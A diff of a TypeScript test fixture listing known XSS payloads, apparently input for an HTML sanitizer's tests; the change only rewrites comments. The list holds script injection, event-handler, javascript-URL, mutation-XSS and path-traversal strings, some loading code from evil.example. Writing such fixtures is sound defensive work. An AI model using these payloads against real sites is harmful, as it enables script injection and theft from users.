@@ -1,9 +1,8 @@
 /**
- * HTML that has run where it should not: handlers, addresses in all spellings, foreign markup, forms, and texts that
- * change their meaning when a browser reads for the second time what it has read once.
+ * Known XSS payloads: event handlers, URL schemes in all spellings, foreign markup, forms, and mutation XSS (HTML
+ * that changes its meaning when it is parsed a second time).
  */
 export const NASTY_HTML: readonly string[] = [
-  // Scripts and handlers.
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -27,7 +26,6 @@ export const NASTY_HTML: readonly string[] = [
   '<input autofocus onfocus=alert(1)>',
   '<select onchange=alert(1)><option>a</select>',
   '<isindex action=javascript:alert(1) type=image>',
-  // Addresses.
   '<a href="javascript:alert(1)">a</a>',
   '<a href=" javascript:alert(1)">a</a>',
   '<a href="\u0001javascript:alert(1)">a</a>',
@@ -64,7 +62,6 @@ export const NASTY_HTML: readonly string[] = [
   '<img src="/api/public/files/../../../admin">',
   '<img src="/api/public/files/1/a.png?x" srcset="https://evil.example/a.png 2x">',
   '<img src="javascript:alert(1)" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
-  // Foreign markup.
   '<svg onload=alert(1)>',
   '<svg><script>alert(1)</script></svg>',
   '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
@@ -77,12 +74,10 @@ export const NASTY_HTML: readonly string[] = [
   '<math href="javascript:alert(1)">a</math>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
-  // Styles.
   '<style>@import "https://evil.example/x.css";</style>',
   '<p style="background:url(javascript:alert(1))">a</p>',
   '<p style="position:fixed;inset:0;width:expression(alert(1))">a</p>',
   '<link rel=stylesheet href="https://evil.example/x.css">',
-  // Frames, forms and what changes the page around.
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
   '<frameset><frame src="javascript:alert(1)"></frameset>',
@@ -97,7 +92,7 @@ export const NASTY_HTML: readonly string[] = [
   '<template><script>alert(1)</script></template>',
   '<slot name=x></slot><x-evil onclick=alert(1)>a</x-evil>',
   '<p is="x-evil" id="root" name="body" class="x" data-x="1" contenteditable slot=x part=x>a</p>',
-  // Text that is read in another way the second time.
+  // Mutation XSS.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   '<title><a id="</title><img src=x onerror=alert(1)>"></title>',
   '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
